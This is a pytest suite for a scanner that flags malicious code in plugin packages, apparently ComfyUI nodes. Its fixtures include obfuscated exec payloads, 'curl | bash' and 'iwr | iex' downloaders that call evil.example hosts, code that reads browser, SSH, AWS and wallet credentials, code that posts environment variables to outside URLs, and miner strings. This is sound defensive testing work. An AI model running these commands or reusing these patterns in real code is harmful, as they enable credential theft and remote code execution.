"""Each Python and command-line rule, on the smallest pack that shows it, and on the honest pattern it must
leave alone (file-level rules, dependencies and JavaScript are in test_rules_files.py)."""

from __future__ import annotations

import base64
import zlib

import pytest

from functions.scanner import RULES
from tests.scanner.support import INIT, Files, assert_quiet, assert_rule, findings, rules, severities


def test_every_rule_has_a_title() -> None:
    assert all(rule.title for rule in RULES.values()) and len(RULES) == 27


# Python: hidden and downloaded code ----------------------------------------------------------------------------

BLOB = base64.b64encode(zlib.compress(b"print('x')")).decode()


@pytest.mark.parametrize(
    "code",
    [
        f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{BLOB}')))",
        "from base64 import b64decode as d\ncode = d('cHJpbnQoMSk=')\neval(code)",
        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
        "exec(bytes.fromhex('7072696e74283129').decode())",
        "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))",
        "import builtins, base64\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode('eA=='))",
        "import marshal, base64\nexec(marshal.loads(base64.b64decode('YQ==')))",
        "import base64\ndef unpack(s):\n    return base64.b64decode(s)\nexec(unpack('eA=='))",
        "import base64, types\nf = types.FunctionType(base64.b64decode('eA=='), {})",
        "exec('tnirp'[::-1])",
        "import pickle, base64\npickle.loads(base64.b64decode('gAQu'))",
    ],
)
def test_obfuscated_execution(code: str) -> None:
    assert_rule({"nodes.py": code}, "PY-OBFUSCATED-EXEC", "critical")


def test_literal_that_decodes_to_code_and_marshal_alone() -> None:
    hidden = base64.b64encode(b"import socket, subprocess\nsubprocess.call(['id'])\n").decode()
    assert_rule({"a.py": f"import base64\nSTAGE = base64.b64decode('{hidden}')"}, "PY-OBFUSCATED-EXEC", "high")
    assert_rule({"a.py": "import marshal\ncode = marshal.loads(data)"}, "PY-OBFUSCATED-EXEC", "high")
    escaped = "\\x70" * 20
    assert_rule({"a.py": f'exec("{escaped}")'}, "PY-OBFUSCATED-EXEC", "critical")


def test_decoding_that_is_not_run_is_fine() -> None:
    honest = (
        "import base64, io\nfrom PIL import Image\n"
        "def load(url):\n    return Image.open(io.BytesIO(base64.b64decode(url.split(',')[1])))\n"
        "def calc(expr, v):\n    return eval(expr, {'__builtins__': {}}, {'v': v})\n"
        "import re\npattern = re.compile(r'\\d+')\n"
    )
    assert_quiet({"utils.py": honest}, "PY-OBFUSCATED-EXEC")
    assert_quiet({"utils.py": honest}, "PY-EXEC-LITERAL")


def test_literal_code() -> None:
    assert_rule({"a.py": "exec('''\nimport os\nos.remove('x')\nprint(1)\n''')"}, "PY-EXEC-LITERAL", "high")
    assert_rule({"a.py": "exec('import os')"}, "PY-EXEC-LITERAL", "medium")
    assert_rule({"a.py": "eval('1 + 1')"}, "PY-EXEC-LITERAL", "low")
    assert_quiet({"a.py": "exec(open('version.py').read())"}, "PY-EXEC-LITERAL")


@pytest.mark.parametrize(
    "code",
    [
        "import requests\nexec(requests.get('https://example.com/s.py').text)",
        "import urllib.request\nsrc = urllib.request.urlopen(u).read()\nexec(compile(src, 'x', 'exec'))",
        "import urllib.request, subprocess, os\np = '/tmp/t'\nurllib.request.urlretrieve(u, p)\nos.chmod(p, 0o755)\n"
        "subprocess.Popen([p])",
        "import requests, subprocess, sys\ndef go():\n    path = 'x.py'\n    with open(path, 'wb') as f:\n"
        "        f.write(requests.get(u).content)\n    subprocess.run([sys.executable, path])",
        "import requests, os\nr = requests.get(u)\nos.system(r.text)",
    ],
)
def test_download_and_run(code: str) -> None:
    assert_rule({"__init__.py": "NODE_CLASS_MAPPINGS = {}\n" + code}, "PY-DOWNLOAD-EXEC", "critical")


def test_downloading_models_and_running_ffmpeg_on_them_is_fine() -> None:
    code = (
        "import os, subprocess, urllib.request, requests\n"
        "def fetch(url, path):\n    urllib.request.urlretrieve(url, path)\n"
        "    subprocess.run(['ffmpeg', '-i', path, path + '.mp4'], check=True)\n"
        "def weights(path):\n    with open(path, 'wb') as f:\n        f.write(requests.get(URL).content)\n"
        "    os.system(f'ffmpeg -i {path} out.wav')\n    return path\n"
    )
    assert_quiet({"dl.py": code}, "PY-DOWNLOAD-EXEC")


def test_dynamic_import_and_native_loading() -> None:
    assert_rule({"a.py": "mod = __import__(name)"}, "PY-DYNAMIC-IMPORT", "medium")
    assert_quiet(
        {"a.py": "mod = __import__('json')\nimport importlib\nm = importlib.import_module(n)"}, "PY-DYNAMIC-IMPORT"
    )
    assert_rule({"a.py": "import ctypes\nlib = ctypes.CDLL('libx.so')"}, "PY-NATIVE-LOAD", "medium")
    shellcode = "import ctypes\nk = ctypes.windll.kernel32\nctypes.windll.kernel32.VirtualAlloc(0, 16, 0x3000, 0x40)"
    assert_rule({"a.py": shellcode}, "PY-NATIVE-LOAD", "critical")
    assert_quiet({"a.py": "import ctypes\nx = ctypes.c_int(3)"}, "PY-NATIVE-LOAD")


# Processes: pip and downloaders --------------------------------------------------------------------------------


def test_pip_install_severity_follows_the_calibration() -> None:
    install = (
        "import subprocess, sys\n"
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', 'requirements.txt'])"
    )
    assert severities({"install.py": install}, "PIP-INSTALL") == {"low"}
    at_import = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'onnxruntime'])"
    assert severities({"__init__.py": at_import}, "PIP-INSTALL") == {"medium"}
    assert severities({"a.py": "import os\nos.system('pip install rembg')"}, "PIP-INSTALL") == {"medium"}
    assert severities({"a.py": "import pip\npip.main(['install', 'x'])"}, "PIP-INSTALL") == {"medium"}
    helper = (
        "import subprocess, sys\ncmd = [sys.executable, '-m', 'pip', 'install']\nsubprocess.run(cmd + ['gitpython'])"
    )
    assert severities({"install.py": helper}, "PIP-INSTALL") == {"low"}


def test_pip_install_of_urls_and_other_indexes() -> None:
    known = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'git+https://github.com/x/y'])"
    assert severities({"install.py": known}, "PIP-INSTALL-URL") == {"medium"}
    unknown = "import os\nos.system('pip install https://files.evil.example/x.whl')"
    assert severities({"a.py": unknown}, "PIP-INSTALL-URL") == {"high"}
    index = "import os\nos.system('pip install -r requirements.txt --extra-index-url https://pkgs.evil.example/simple')"
    assert severities({"install.py": index}, "PIP-INSTALL-URL") == {"high"}
    mirror = "import os\nos.system('pip install -r requirements.txt -i https://pypi.tuna.tsinghua.edu.cn/simple')"
    assert_quiet({"install.py": mirror}, "PIP-INSTALL-URL")
    pure = "import os\nos.system('pip install requests@https://github.com/someone/requests/archive/main.zip')"
    assert severities({"a.py": pure}, "PIP-INSTALL-URL") == {"high"}


def test_pip_internal() -> None:
    assert_rule({"a.py": "from pip._internal import main\nmain(['install', 'x'])"}, "PIP-INTERNAL", "high")
    assert_rule({"a.py": "import pip\npip._internal.main(['install', 'x'])"}, "PIP-INTERNAL", "high")
    assert_quiet({"a.py": "import importlib.metadata\nv = importlib.metadata.version('pip')"}, "PIP-INTERNAL")


@pytest.mark.parametrize(
    ("files", "severity"),
    [
        ({"a.py": "import os\nos.system('curl -s https://get.evil.example/i.sh | bash')"}, "critical"),
        ({"a.py": "import subprocess\nsubprocess.run(['wget', 'https://evil.example/x', '-O', '/tmp/x'])"}, "high"),
        ({"a.py": "import os\nos.system('wget https://huggingface.co/x/y/resolve/main/m.safetensors')"}, "medium"),
        ({"run.ps1": "iwr https://evil.example/a.ps1 | iex"}, "critical"),
        ({"run.bat": "powershell -enc SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA=="}, "critical"),
        ({"run.bat": "certutil -urlcache -split -f https://evil.example/a.exe a.exe"}, "high"),
        ({"get.sh": "#!/bin/sh\nwget -q http://1.2.3.4/p -O /tmp/p && /tmp/p"}, "high"),
    ],
)
def test_shell_downloaders(files: Files, severity: str) -> None:
    assert_rule(files, "SHELL-DOWNLOADER", severity)


def test_shell_comments_and_git_are_fine() -> None:
    assert_quiet(
        {"get.sh": "#!/bin/sh\n# you can also use wget https://x.example/y\ngit clone https://github.com/a/b"},
        "SHELL-DOWNLOADER",
    )
    assert_quiet(
        {"a.py": "import subprocess\nsubprocess.run(['git', 'pull'])\nsubprocess.run(['yt-dlp', url])"},
        "SHELL-DOWNLOADER",
    )


# Secrets -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "import os\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data')",
        "p = profile + '/Default/Login Data'",
        "import os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
        "from pathlib import Path\nc = Path.home() / '.aws' / 'credentials'",
        "t = f'{home}/.git-credentials'",
        "d = APPDATA + '\\\\discord\\\\Local Storage\\\\leveldb'",
        "w = 'Electrum/wallets'",
        "import win32crypt\nwin32crypt.CryptUnprotectData(blob, None, None, None, 0)",
        "import browser_cookie3\ncj = browser_cookie3.chrome()",
        "import subprocess\nsubprocess.run(['security', 'find-generic-password', '-wa', 'Chrome'])",
    ],
)
def test_credential_access(code: str) -> None:
    assert_rule({"a.py": code}, "CREDENTIAL-ACCESS", "high")


def test_credential_words_in_honest_code_are_fine() -> None:
    honest = (
        '"""Reads the user data folder of ComfyUI and the cookies of the HTTP session."""\n'
        "import os, requests\n"
        "session = requests.Session()\ncookies = session.cookies\n"
        "cache = os.path.join(os.path.expanduser('~'), '.cache', 'huggingface')\n"
        "token = os.environ.get('HF_TOKEN')\n"
        "# never read ~/.ssh/id_rsa\n"
    )
    assert_quiet({"a.py": honest}, "CREDENTIAL-ACCESS")


def test_environment_sent_away() -> None:
    sweep = "import os, requests\nrequests.post('https://x.example/c', json=dict(os.environ))"
    assert_rule({"a.py": sweep}, "ENV-SECRET-EXFIL", "high")
    indirect = (
        "import os, json, urllib.request\ndef f():\n    e = {k: v for k, v in os.environ.items()}\n"
        "    body = json.dumps(e).encode()\n    urllib.request.urlopen('https://x.example', data=body)"
    )
    assert_rule({"a.py": indirect}, "ENV-SECRET-EXFIL", "high")
    honest = (
        "import os, subprocess, requests\n"
        "subprocess.run(['ffmpeg'], env=os.environ.copy())\n"
        "key = os.environ.get('OPENAI_API_KEY')\n"
        "requests.post('https://api.openai.com/v1/x', headers={'Authorization': key})\n"
        "if 'HF_HOME' in os.environ: pass\n"
    )
    assert_quiet({"a.py": honest}, "ENV-SECRET-EXFIL")


# Endpoints and miners ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("'https://discord.com/api/webhooks/000/xxx'", "high"),
        ("'https://discordapp.com/api/webhooks/' + hook_id", "medium"),
        ("'https://hooks.slack.com/services/T000/B000/xxx'", "high"),
        ("f'https://api.telegram.org/bot{token}/sendMessage'", "high"),
        ("'https://pastebin.com/raw/abc'", "high"),
        ("'https://webhook.site/0000'", "high"),
        ("'https://abcd.ngrok-free.app/x'", "high"),
        ("'ht' + 'tps://disc' + 'ord.com/api/webhooks/1/a'", "high"),
        (f"__import__('base64').b64decode('{base64.b64encode(b'https://pastebin.com/raw/x').decode()}')", "high"),
    ],
)
def test_exfiltration_endpoints(text: str, severity: str) -> None:
    assert_rule({"a.py": f"x = {text}"}, "EXFIL-ENDPOINT", severity)


def test_endpoints_in_javascript_and_comments() -> None:
    assert_rule(
        {"web/a.js": "fetch('https://discord.com/api/webhooks/1/abc', {method: 'POST'})"}, "EXFIL-ENDPOINT", "high"
    )
    assert_quiet(
        {"a.py": "# paste the log on pastebin.com if it fails\nURL = 'https://github.com/x/y'"}, "EXFIL-ENDPOINT"
    )
    assert_quiet({"README.md": "Join us on https://discord.com/api/webhooks/1/abc"}, "EXFIL-ENDPOINT")


def test_raw_ip_endpoints() -> None:
    assert_rule({"a.py": "u = 'http://1.2.3.4:8080/x'"}, "RAW-IP-ENDPOINT", "high")
    assert_rule({"web/a.js": "new WebSocket('ws://1.2.3.4:9000')"}, "RAW-IP-ENDPOINT", "high")
    honest = (
        "u = 'http://127.0.0.1:8188/prompt'\nv = 'http://192.168.1.10/x'\nimport socket\ns.connect(('8.8.8.8', 80))"
    )
    assert_quiet({"a.py": honest}, "RAW-IP-ENDPOINT")


@pytest.mark.parametrize(
    ("files", "severity"),
    [
        ({"a.py": "args = ['-o', 'stratum+tcp://pool.example:3333']"}, "critical"),
        ({"a.py": "cmd = 'xmrig --donate-level 1'"}, "critical"),
        ({"a.py": "pool = 'gulf.moneroocean.stream:10128'"}, "critical"),
        ({"web/m.html": "<script src='https://coinhive.com/lib/coinhive.min.js'></script>"}, "critical"),
        ({"a.py": "wallet = '4" + "A" * 94 + "'"}, "medium"),
    ],
)
def test_miners(files: Files, severity: str) -> None:
    assert_rule(files, "MINER", severity)


def test_mining_words_that_are_not_miners() -> None:
    assert_quiet({"a.py": "def mine_hard_negatives(x):\n    pool = ThreadPool(4)\n    return pool.map(f, x)"}, "MINER")


def test_binary_file_with_a_source_extension_is_not_read_as_text() -> None:
    assert not findings(INIT | {"web/video.ts": b"\x47\x00\x11" + b"\x00" * 200 + b"eval(atob('x'))"})


def test_unparseable_python_is_reported_and_pattern_scanned() -> None:
    found = findings(INIT | {"old.py": "print 'x'\nexec base64.b64decode(s)\n"})
    assert {(f.rule, f.severity.value) for f in found} == {
        ("SCAN-INCOMPLETE", "medium"),
        ("PY-OBFUSCATED-EXEC", "high"),
    }


def test_findings_carry_file_line_and_excerpt() -> None:
    found = findings(INIT | {"pkg/loader.py": "import os\n\nos.system('curl https://x.example/a | sh')\n"})
    hit = next(f for f in found if f.rule == "SHELL-DOWNLOADER")
    assert (hit.file, hit.line) == ("pkg/loader.py", 3)
    assert hit.excerpt == "os.system('curl https://x.example/a | sh')"
    assert rules(INIT | {"x.py": "pass"}) == set()


def test_downloaded_data_as_an_argument_is_not_running_it() -> None:
    code = (
        "import requests, subprocess\ntag = requests.get(API).json()['tag']\nsubprocess.run(['git', 'checkout', tag])"
    )
    assert_quiet({"update.py": code}, "PY-DOWNLOAD-EXEC")
    script = "import requests, subprocess, sys\nsubprocess.run([sys.executable, '-c', requests.get(U).text])"
    assert_rule({"update.py": script}, "PY-DOWNLOAD-EXEC", "critical")


def test_instance_metadata_is_a_credential_store() -> None:
    assert_rule({"a.py": "u = 'http://169.254.169.254/latest/meta-data/iam/'"}, "CREDENTIAL-ACCESS", "high")
